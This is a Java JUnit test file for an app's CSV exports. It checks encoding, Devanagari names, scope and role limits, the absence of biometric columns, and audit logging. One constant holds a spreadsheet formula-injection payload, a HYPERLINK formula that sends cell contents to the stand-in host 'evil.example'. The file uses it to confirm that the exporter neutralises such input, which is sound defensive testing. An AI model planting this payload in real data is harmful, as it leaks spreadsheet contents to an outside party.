package org.sadasya.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.sadasya.testsupport.Api;
import org.sadasya.testsupport.AppServerTest;
import org.sadasya.testsupport.Hierarchy;
import org.sadasya.testsupport.ReviewSeeds;

/**
 * The CSV exports (issue 13, item 6) read back with Commons CSV: UTF-8 with a BOM, Devanagari
 * intact, a formula-looking name guarded, decisions and reason codes per enrolment, the scope kept,
 * no biometric column, a worker refused, and the export audited.
 */
class ExportCsvTest extends AppServerTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Sunita\")";
    static final byte[] BOM = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};

    static List<CSVRecord> parse(Api.Download d) throws IOException {
        assertThat(d.status()).as(new String(d.body(), StandardCharsets.UTF_8)).isEqualTo(200);
        assertThat(d.contentType()).isEqualTo("text/csv;charset=UTF-8");
        assertThat(d.disposition()).startsWith("attachment").contains(".csv");
        assertThat(Arrays.copyOf(d.body(), 3)).as("UTF-8 byte order mark").isEqualTo(BOM);
        String text = new String(d.body(), 3, d.body().length - 3, StandardCharsets.UTF_8);
        return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(text))
                .getRecords();
    }

    static Map<String, CSVRecord> by(List<CSVRecord> rows, String column) {
        return rows.stream().collect(Collectors.toMap(r -> r.get(column), Function.identity()));
    }

    @Test
    void enrolmentsAndMembers_inScope_readBackWithDecisionsReasons_andGuardedCells() throws IOException {
        Hierarchy here = hierarchy();
        Hierarchy elsewhere = hierarchy();
        String accepted = ReviewSeeds.inReview(admin, here, -1, FORMULA).submissionId();
        String rejected = ReviewSeeds.inReview(admin, here).submissionId();
        String waiting = ReviewSeeds.outsideTheBooth(admin, here).submissionId();
        String foreign = ReviewSeeds.inReview(admin, elsewhere).submissionId();
        Api reviewer = ReviewSeeds.reviewer(anonymous, admin, here);
        String member = reviewer.post("/api/v1/reviews/" + accepted, "{\"decision\": \"ACCEPT\"}").json().get("memberId").asText();
        reviewer.post("/api/v1/reviews/" + rejected, "{\"decision\": \"REJECT\", \"note\": \"@not the member, see +91 note\"}");

        List<CSVRecord> rows = parse(reviewer.download("/api/v1/export/enrollments.csv?orgUnitId=" + here.boothId()));
        assertThat(rows.get(0).getParser().getHeaderNames()).isEqualTo(ExportRows.ENROLLMENT_HEADER)
                .noneMatch(h -> h.contains("embedding") || h.contains("photo") || h.contains("hash"));
        Map<String, CSVRecord> byId = by(rows, "submission_id");
        assertThat(byId.keySet()).containsExactlyInAnyOrder(accepted, rejected, waiting).doesNotContain(foreign);
        CSVRecord a = byId.get(accepted);
        assertThat(a.get("member_name")).isEqualTo("'" + FORMULA);
        assertThat(a.get("member_name_hi")).isEqualTo("सुनीता देवी");
        assertThat(a.get("status")).isEqualTo("ACCEPTED");
        assertThat(a.get("member_id")).isEqualTo(member);
        assertThat(a.get("reasons")).contains("LIVENESS:REVIEW", "REVIEWER_DECISION:PASS");
        assertThat(a.get("reviewer")).isEqualTo("reviewer" + here.n());
        CSVRecord r = byId.get(rejected);
        assertThat(r.get("status")).isEqualTo("REJECTED");
        assertThat(r.get("review_note")).isEqualTo("'@not the member, see +91 note");
        assertThat(r.get("reasons")).contains("REVIEWER_DECISION:REJECT");
        assertThat(byId.get(waiting).get("reasons")).isEqualTo("FIELD_PRESENCE:REVIEW");
        assertThat(byId.get(waiting).get("received_at")).endsWith("+05:30");
        assertThat(byId.get(waiting).get("appeal")).isEqualTo("false");

        List<CSVRecord> members = parse(reviewer.download("/api/v1/export/members.csv"));
        assertThat(members).hasSize(1);
        CSVRecord m = members.get(0);
        assertThat(m.get("member_id")).isEqualTo(member);
        assertThat(m.get("name")).isEqualTo("'" + FORMULA);
        assertThat(m.get("name_hi")).isEqualTo("सुनीता देवी");
        assertThat(m.get("submission_id")).isEqualTo(accepted);
        assertThat(m.get("booth_code")).isEqualTo("S%d-B1".formatted(here.n()));
        assertThat(m.get("reasons")).contains("REVIEWER_DECISION:PASS");

        assertThat(by(parse(admin.download("/api/v1/export/enrollments.csv?orgUnitId=" + elsewhere.boothId())),
                "submission_id").keySet()).containsExactly(foreign);
        var audit = admin.get("/api/v1/audit?entityType=org_unit&entityId=" + here.boothId()).json();
        assertThat(audit.findValuesAsText("action")).contains("EXPORTED");
        assertThat(audit.toString()).contains("reviewer" + here.n(), "members", "enrollments");
    }

    @Test
    void aWorker_isRefused_andAnotherDistrict_isNotFound() {
        Hierarchy here = hierarchy();
        Hierarchy elsewhere = hierarchy();
        Api reviewer = ReviewSeeds.reviewer(anonymous, admin, here);
        assertThat(here.worker().download("/api/v1/export/enrollments.csv").status()).isEqualTo(403);
        assertThat(here.worker().download("/api/v1/export/members.csv").status()).isEqualTo(403);
        assertThat(reviewer.download("/api/v1/export/members.csv?orgUnitId=" + elsewhere.boothId()).status()).isEqualTo(404);
        assertThat(anonymous.download("/api/v1/export/members.csv").status()).isEqualTo(401);
    }

    @Test
    void theGuard_prefixesEveryFormulaStart_andLeavesOtherCellsAlone() {
        for (String start : List.of("=", "+", "-", "@", "\t", "\r")) {
            assertThat(CsvStream.guard(start + "1+1")).isEqualTo("'" + start + "1+1");
        }
        assertThat(CsvStream.guard("सुनीता")).isEqualTo("सुनीता");
        assertThat(CsvStream.guard("a=b")).isEqualTo("a=b");
        assertThat(CsvStream.guard(null)).isEmpty();
    }
}
